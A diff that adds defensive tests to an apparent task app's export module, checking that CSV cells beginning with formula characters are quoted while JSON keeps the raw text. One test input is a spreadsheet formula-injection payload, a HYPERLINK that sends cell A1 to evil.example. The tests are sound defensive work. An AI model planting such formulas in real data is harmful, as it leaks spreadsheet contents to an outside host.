@@ -1,6 +1,9 @@
 """An export holds everything of the organization and nothing of another one, and survives crashes."""
 
 import asyncio
+import csv
+import io
+import json
 import math
 import os
 import zipfile
@@ -22,7 +25,7 @@ from taskapp.core.db import database as db
 from taskapp.core.errors import Forbidden
 from taskapp.core.ids import new_id
 from taskapp.core.work import bus, failpoints
-from taskapp.export import contents, repository, service, worker
+from taskapp.export import archive, contents, repository, service, worker
 from taskapp.export.model import Export
 from taskapp.export.worker import PAUSES, remove_expired, write_exports
 from tests.export.reading_back import assert_equals_the_database
@@ -64,6 +67,37 @@ async def _exported(company: Company) -> Path:
         file = await service.find_download(session, company.owner)
     assert file
     return file
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=HYPERLINK(A1)", "'=HYPERLINK(A1)"),
+        ("+1+cmd", "'+1+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("'=quoted", "'=quoted"),
+        ("a = b", "a = b"),
+        ("+15550123", "+15550123"),
+        ("-7.5", "-7.5"),
+        ("", ""),
+    ],
+)
+def test_no_text_of_a_table_is_a_formula_in_a_spreadsheet(text: str, cell: str) -> None:
+    assert list(csv.reader(io.StringIO(archive.csv_lines([[text, -3, None]]).decode()))) == [[cell, "-3", ""]]
+
+
+async def test_a_formula_in_a_name_is_text_in_the_csv_and_itself_in_the_json(database: db.Database) -> None:
+    name = '=HYPERLINK("https://evil.example/?" & A1, "Open")'
+    async with db.transaction() as session:
+        company = await a_company(session)
+        await a_contact(session, company.owner, name)
+    with zipfile.ZipFile(await _exported(company)) as zipped:
+        [row] = csv.DictReader(io.StringIO(zipped.read("tables/contact.csv").decode(), newline=""))
+        [stored] = json.loads(zipped.read("tables/contact.json"))
+    assert (row["name"], stored["name"]) == (f"'{name}", name)
 
 
 async def test_an_export_equals_the_database_and_holds_nothing_of_another_organization(database: db.Database) -> None:
